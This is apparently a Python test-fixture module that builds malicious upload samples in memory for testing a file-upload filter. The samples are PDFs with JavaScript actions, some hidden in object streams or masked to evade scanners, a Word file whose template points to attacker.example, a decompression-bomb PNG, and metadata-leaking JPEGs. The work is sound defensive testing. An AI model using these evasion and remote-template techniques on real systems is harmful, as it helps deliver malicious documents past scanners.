"""Build upload attack files in memory, so no binary fixtures are committed."""

import io
import struct
import zipfile
import zlib
from functools import cache

from PIL import Image

CANARY = b"CANARY-7f3a9c"
HTML_PAYLOAD = b"<html><body><script>alert('" + CANARY + b"')</script></body></html>"
GPS_IFD = 0x8825
ORIENTATION = 0x0112


# Images -------------------------------------------------------------------


def image_bytes(
    fmt: str = "PNG", size: tuple[int, int] = (32, 24), mode: str = "RGB", **save
) -> bytes:
    """A small image with some structure (so the encoders have real work)."""
    image = Image.new(mode, size, "white" if mode != "P" else 0)
    for x in range(size[0]):
        for y in range(size[1]):
            if (x // 4 + y // 4) % 2:
                image.putpixel((x, y), _colour(mode))
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **save)
    return buffer.getvalue()


def _colour(mode: str):
    return {"RGB": (200, 30, 30), "RGBA": (200, 30, 30, 128), "L": 40, "P": 1}[mode]


def jpeg_with_gps() -> bytes:
    """A JPEG carrying a GPS position, a camera description, XMP and a comment."""
    exif = Image.Exif()
    exif[0x010E] = "Home visit " + CANARY.decode()  # ImageDescription
    exif[0x0110] = "Phone model"
    exif[GPS_IFD] = {
        1: "N",  # GPSLatitudeRef
        2: (51.0, 30.0, 26.0),  # GPSLatitude: central London
        3: "W",
        4: (0.0, 7.0, 39.0),
    }
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org'
        b'/1999/02/22-rdf-syntax-ns#"><rdf:Description exif:GPSLatitude="51,30.4N" '
        b'xmlns:exif="http://ns.adobe.com/exif/1.0/">' + CANARY + b"</rdf:Description>"
        b"</rdf:RDF></x:xmpmeta>"
    )
    return image_bytes(
        "JPEG", (64, 48), exif=exif.tobytes(), xmp=xmp, comment=b"note " + CANARY
    )


def rotated_jpeg() -> bytes:
    """Landscape pixels, red left half and blue right half, EXIF orientation 6.

    Orientation 6 means "rotate 90 degrees clockwise to display", so the
    upright picture is portrait with red on top.
    """
    image = Image.new("RGB", (80, 40), (0, 0, 255))
    image.paste((255, 0, 0), (0, 0, 40, 40))
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=95, exif=exif.tobytes())
    return buffer.getvalue()


def animated_gif() -> bytes:
    frames = [Image.new("P", (16, 16), colour) for colour in (1, 2, 3)]
    for frame in frames:
        frame.putpalette([0, 0, 0, 255, 0, 0, 0, 255, 0, 0, 0, 255])
    buffer = io.BytesIO()
    frames[0].save(
        buffer, format="GIF", save_all=True, append_images=frames[1:], duration=100
    )
    return buffer.getvalue()


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


@cache
def png_declaring(width: int, height: int) -> bytes:
    """A complete 1-bit greyscale PNG of the given size: tiny, all zeros inside.

    Decoding it would allocate width * height bytes; the file is a few KB.
    """
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed pixels
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height))
    idat += compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_with_text_chunk(text: bytes) -> bytes:
    """A valid PNG with ``text`` in a tEXt chunk before the image data."""
    png = image_bytes("PNG")
    ihdr_end = 8 + 25
    return png[:ihdr_end] + _png_chunk(b"tEXt", b"Comment\x00" + text) + png[ihdr_end:]


# PDF ----------------------------------------------------------------------


def build_pdf(
    objects: list[bytes], *, before: bytes = b"", after: bytes = b""
) -> bytes:
    """A PDF with a correct cross-reference table; object 1 is the catalogue."""
    out = bytearray(before + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += str(number).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 " + str(len(objects) + 1).encode() + b"\n0000000000 65535 f \n"
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size " + str(len(objects) + 1).encode() + b" /Root 1 0 R >>\n"
    out += b"startxref\n" + str(xref).encode() + b"\n%%EOF\n"
    return bytes(out) + after


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    length = str(len(content)).encode()
    return b"<< /Length " + length + extra + b" >>\nstream\n" + content + b"\nendstream"


def minimal_pdf(catalogue_extra: bytes = b"", extra_objects: tuple = ()) -> bytes:
    """One page saying "Certificate of completion"."""
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R" + catalogue_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            _stream(b"BT /F1 18 Tf 72 760 Td (Certificate of completion) Tj ET"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra_objects,
        ]
    )


def pdf_with_javascript(name: bytes = b"/JavaScript") -> bytes:
    action = b"<< /Type /Action /S " + name + b" /JS (app.alert('hi')) >>"
    return minimal_pdf(b" /OpenAction 6 0 R", (action,))


def pdf_with_javascript_in_object_stream(
    filters: bytes = b"/FlateDecode", *, declared: bool = True
) -> bytes:
    """The JavaScript action sits, compressed, inside an object stream.

    With ``declared=False`` the stream does not say /Type /ObjStm; readers find
    object streams through the cross-reference, so that hides nothing.
    """
    hidden = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    header = b"6 0 "
    body = header + hidden
    if filters == b"/FlateDecode":
        body = zlib.compress(body)
    kind = b" /Type /ObjStm" if declared else b""
    first = b" /N 1 /First " + str(len(header)).encode()
    objstm = _stream(body, kind + first + b" /Filter " + filters)
    return minimal_pdf(b" /OpenAction 6 0 R", (objstm,))


def pdf_with_masked_rendition() -> bytes:
    """A Rendition action running JS, behind a fake "stream" keyword in a string.

    A scanner that trusts the fake keyword skips the /JS key as stream data.
    """
    masked = b") /S /Rendition /JS (app.alert(1)) /Y ("
    length = str(len(masked)).encode()
    action = b"<< /Length " + length + b" /X (\nstream\n" + masked + b"\nendstream) >>"
    return minimal_pdf(b" /OpenAction 6 0 R", (action,))


def pdf_with_binary_stream(payload: bytes) -> bytes:
    """A PDF whose page content stream holds arbitrary (compressed) bytes."""
    return minimal_pdf(
        extra_objects=(_stream(payload, b" /Filter /FlateDecode /Subtype /Image"),)
    )


# ZIP and Word -------------------------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
MACRO_CONTENT_TYPES = CONTENT_TYPES.replace(
    b"wordprocessingml.document.main+xml",
    b"ms-word.document.macroEnabled.main+xml",
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
    b'2006/main"><w:body><w:p><w:r><w:t>Reflection on supervision</w:t></w:r>'
    b"</w:p></w:body></w:document>"
)
EXTERNAL_TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
EXTERNAL_HYPERLINK_RELS = EXTERNAL_TEMPLATE_RELS.replace(
    b"attachedTemplate", b"hyperlink"
)


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(extra: dict[str, bytes] | None = None, **replace: bytes) -> bytes:
    """A minimal .docx Word opens; ``extra`` adds parts, ``replace`` swaps them."""
    parts = {
        "[Content_Types].xml": replace.get("content_types", CONTENT_TYPES),
        "_rels/.rels": ROOT_RELS,
        "word/document.xml": DOCUMENT,
    }
    parts.update(extra or {})
    return zip_bytes(parts)


OLE2_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"WordDocument" * 8


def windows_exe() -> bytes:
    """Enough of a PE file to be recognised as one by any sniffer."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00" + b"\x00" * 58)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x40, b"\x00")
    return bytes(dos) + stub + b"PE\x00\x00\x4c\x01" + b"\x00" * 200


# Inspection ---------------------------------------------------------------


def jpeg_header_segments(data: bytes) -> list[tuple[int, bytes]]:
    """(marker, payload) for each JPEG segment before the compressed scan."""
    segments = []
    position = 2  # after SOI
    while position < len(data) and data[position] == 0xFF:
        marker = data[position + 1]
        (length,) = struct.unpack(">H", data[position + 2 : position + 4])
        segments.append((marker, data[position + 4 : position + 2 + length]))
        position += 2 + length
        if marker == 0xDA:  # start of scan
            break
    return segments
